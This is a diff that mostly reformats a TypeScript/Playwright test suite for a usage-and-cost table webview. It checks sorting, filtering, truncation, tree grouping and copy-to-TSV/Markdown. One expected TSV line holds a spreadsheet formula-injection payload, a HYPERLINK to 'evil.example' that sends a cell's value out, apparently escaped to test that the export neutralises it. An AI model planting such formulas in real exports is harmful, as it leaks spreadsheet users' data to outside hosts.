@@ -21,7 +21,8 @@ describe('usage table webview', function () {
     wv = await harness.open({ theme: 'dark' });
   });
   afterEach(async function () {
-    if (this.currentTest?.state === 'failed') await screenshot(wv.page, `failed-${this.currentTest.title.replace(/\W+/g, '-')}`);
+    if (this.currentTest?.state === 'failed')
+      await screenshot(wv.page, `failed-${this.currentTest.title.replace(/\W+/g, '-')}`);
     problems.push(...(await wv.problems()).map((p) => `${this.currentTest?.title}: ${p}`));
     await wv.close();
   });
@@ -31,7 +32,12 @@ describe('usage table webview', function () {
     const page = wv.page;
     assert.equal(await page.locator('.title').textContent(), 'Model usage');
     const meta = await page.locator('.meta-item').allTextContents();
-    assert.deepEqual(meta.slice(0, 4), ['2026-11-01 – 2026-11-24 · Europe/Berlin', 'By source', '9 records', 'api.langdock.com']);
+    assert.deepEqual(meta.slice(0, 4), [
+      '2026-11-01 – 2026-11-24 · Europe/Berlin',
+      'By source',
+      '9 records',
+      'api.langdock.com',
+    ]);
     assert.equal(meta[4], 'exported 3 minutes ago');
     assert.deepEqual(await page.locator('.actions button').allTextContents(), [
       'Open CSV in Editor',
@@ -61,13 +67,24 @@ describe('usage table webview', function () {
     assert.deepEqual((await totalRow(page)).slice(4, 9), ['50,000', '3,046,000', '$43.00', '100%', '$0.86']);
 
     // Numbers are right-aligned tabular figures in the editor font.
-    const style = await page.locator('.body .row').first().locator('.cell.num').first().evaluate((c) => {
-      const s = getComputedStyle(c);
-      return { align: s.justifyContent, figures: s.fontVariantNumeric, font: s.fontFamily };
+    const style = await page
+      .locator('.body .row')
+      .first()
+      .locator('.cell.num')
+      .first()
+      .evaluate((c) => {
+        const s = getComputedStyle(c);
+        return { align: s.justifyContent, figures: s.fontVariantNumeric, font: s.fontFamily };
+      });
+    assert.deepEqual(style, {
+      align: 'flex-end',
+      figures: 'tabular-nums',
+      font: '"Droid Sans Mono", "monospace", monospace',
     });
-    assert.deepEqual(style, { align: 'flex-end', figures: 'tabular-nums', font: '"Droid Sans Mono", "monospace", monospace' });
     // The primary column's bar: the largest visible value fills the cell.
-    const widths = await page.locator('.body .row .bar').evaluateAll((bars) => bars.map((b) => (b as HTMLElement).style.width));
+    const widths = await page
+      .locator('.body .row .bar')
+      .evaluateAll((bars) => bars.map((b) => (b as HTMLElement).style.width));
     assert.deepEqual(widths.slice(0, 4), ['3.87%', '5.31%', '0.69%', '100%']);
   });
 
@@ -77,7 +94,10 @@ describe('usage table webview', function () {
     const full = 'mistral-large-latest-with-a-very-long-deployment-name-that-truncates';
     assert.equal(await cell.getAttribute('title'), full);
     const value = cell.locator('.value');
-    const clipped = await value.evaluate((v) => ({ overflow: getComputedStyle(v).textOverflow, cut: v.scrollWidth > v.clientWidth }));
+    const clipped = await value.evaluate((v) => ({
+      overflow: getComputedStyle(v).textOverflow,
+      cut: v.scrollWidth > v.clientWidth,
+    }));
     assert.deepEqual(clipped, { overflow: 'ellipsis', cut: true });
   });
 
@@ -105,7 +125,11 @@ describe('usage table webview', function () {
     await sortButton(page, 'Cost (USD)').click();
     assert.deepEqual(await columnTexts(page, 'Cost (USD)'), ['$0.0042', '$0.10', '$0.20', '$12.59', '$30.10', 'n/a']);
     await sortButton(page, 'Name').click();
-    assert.deepEqual((await columnTexts(page, 'Name')).slice(0, 3), ['o3-mini', 'mistral-large-latest-with-a-very-long-deployment-name-that-truncates', 'gpt-4o-mini']);
+    assert.deepEqual((await columnTexts(page, 'Name')).slice(0, 3), [
+      'o3-mini',
+      'mistral-large-latest-with-a-very-long-deployment-name-that-truncates',
+      'gpt-4o-mini',
+    ]);
   });
 
   it('filters rows and recomputes the grand total of what is shown, exactly', async () => {
@@ -135,10 +159,13 @@ describe('usage table webview', function () {
     await wv.load(modelsTable());
     const page = wv.page;
     await page.locator('.filter-input').fill('mobile');
-    assert.deepEqual((await bodyRows(page)).map((r) => [r[0], r[2], r[4]]), [
-      ['gpt-4.1', '', '1,750'],
-      ['gpt-4.1', 'MOBILE', '506'],
-    ]);
+    assert.deepEqual(
+      (await bodyRows(page)).map((r) => [r[0], r[2], r[4]]),
+      [
+        ['gpt-4.1', '', '1,750'],
+        ['gpt-4.1', 'MOBILE', '506'],
+      ],
+    );
     assert.equal((await totalRow(page))[4], '506');
   });
 
@@ -150,7 +177,11 @@ describe('usage table webview', function () {
     assert.equal(await page.locator('[role=treegrid]').count(), 1);
     await first.locator('.chevron').click();
     assert.equal(await first.getAttribute('aria-expanded'), 'true');
-    assert.deepEqual((await columnTexts(page, 'Source')).slice(0, 4), ['', 'WEB', 'MOBILE', 'API'], 'a grouped row has no source of its own');
+    assert.deepEqual(
+      (await columnTexts(page, 'Source')).slice(0, 4),
+      ['', 'WEB', 'MOBILE', 'API'],
+      'a grouped row has no source of its own',
+    );
     assert.equal(await page.locator('.body .row.child[aria-level="2"]').count(), 3);
     // Children sort with their parent.
     await sortButton(page, 'Requests').click();
@@ -255,7 +286,10 @@ describe('usage table webview', function () {
     await page.getByRole('button', { name: 'Copy as TSV' }).click();
     await page.getByRole('button', { name: 'Copy as Markdown' }).click();
     const copies = (await wv.posted()).filter((m): m is Extract<WebviewToHost, { type: 'copy' }> => m.type === 'copy');
-    assert.deepEqual(copies.map((c) => c.format), ['tsv', 'markdown']);
+    assert.deepEqual(
+      copies.map((c) => c.format),
+      ['tsv', 'markdown'],
+    );
     assert.deepEqual(copies[0].text.split('\r\n'), [
       'Name\tProvider\tSource\tBYOK\tRequests\tInput tokens\tCost (USD)\tShare of requests\tCost per 1k requests',
       `'=HYPERLINK("https://evil.example/?q="&A1,"Click")\t'@evil\t\tfalse\t300\t\t0.1\t0.006\t0.333333`,
@@ -281,7 +315,10 @@ describe('usage table webview', function () {
     assert.equal(await page.locator('.actions button', { hasText: 'Re-run' }).count(), 0);
     const cell = page.locator('.body .row').first().locator('.cell').nth(3);
     assert.equal(await cell.textContent(), 'gpt-4.1: 700, claude-sonnet-4: 300, o3-mini: 150, 2 more');
-    assert.equal(await cell.getAttribute('title'), 'gpt-4.1: 700\nclaude-sonnet-4: 300\no3-mini: 150\ngemini-2.5-pro: 40\nmistral: 10');
+    assert.equal(
+      await cell.getAttribute('title'),
+      'gpt-4.1: 700\nclaude-sonnet-4: 300\no3-mini: 150\ngemini-2.5-pro: 40\nmistral: 10',
+    );
     await cell.click();
     assert.deepEqual(await page.locator('.popover li').allTextContents(), [
       'gpt-4.1: 700',
